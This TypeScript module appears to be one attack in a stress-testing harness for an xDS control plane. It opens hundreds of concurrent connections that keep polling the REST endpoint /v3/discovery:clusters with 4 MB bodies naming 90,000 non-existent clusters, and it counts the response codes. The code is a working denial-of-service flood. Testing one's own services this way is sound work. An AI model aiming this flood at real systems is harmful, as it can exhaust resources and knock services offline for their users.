import { connect } from 'node:net';
import type { Attack } from '../attack.js';
import { attackTime } from '../attack-time.js';

const CONNECTIONS = 250;
const BODY_BYTES = 4_000_000;
/** As many as one request may name. */
const NAMES = 90_000;

/** Polls of REST xDS, each with a body of 4 MB that names clusters which do not exist, and again once it is answered. */
export const attack: Attack = {
  title: `${CONNECTIONS} connections that poll over REST with bodies of 4 MB`,
  async run({ host, ports }, scale, signal) {
    const until = attackTime(signal, this.durationMs);
    const body = largePoll();
    const statuses = new Map<string, number>();
    let opened = 0;
    const poll = (): Promise<void> =>
      new Promise((resolve) => {
        opened++;
        const socket = connect(ports.http, host).on('error', () => undefined);
        const abort = (): void => void socket.destroy();
        until.addEventListener('abort', abort, { once: true });
        socket.on('close', () => {
          until.removeEventListener('abort', abort);
          resolve();
        });
        socket.once('data', (answer) => {
          const status = answer.toString('latin1', 9, 12);
          statuses.set(status, (statuses.get(status) ?? 0) + 1);
          socket.destroy();
        });
        socket.write(
          `POST /v3/discovery:clusters HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`,
        );
        socket.write(body);
      });
    const attackers = Array.from({ length: CONNECTIONS * scale }, async () => {
      while (!until.aborted) await poll();
    });
    await Promise.all(attackers);
    return `${opened} polls; ${[...statuses].map(([status, count]) => `${count} answers ${status}`).join(', ')}`;
  },
};

function largePoll(): Buffer {
  const id = 'sidecar~10.244.66.7~attacker.attackers~attackers.svc.cluster.local';
  const filler = 'x'.repeat(Math.floor(BODY_BYTES / NAMES) - 12);
  const resourceNames = Array.from({ length: NAMES }, (_, index) => `${filler}-${index}`);
  return Buffer.from(JSON.stringify({ node: { id }, resourceNames }));
}
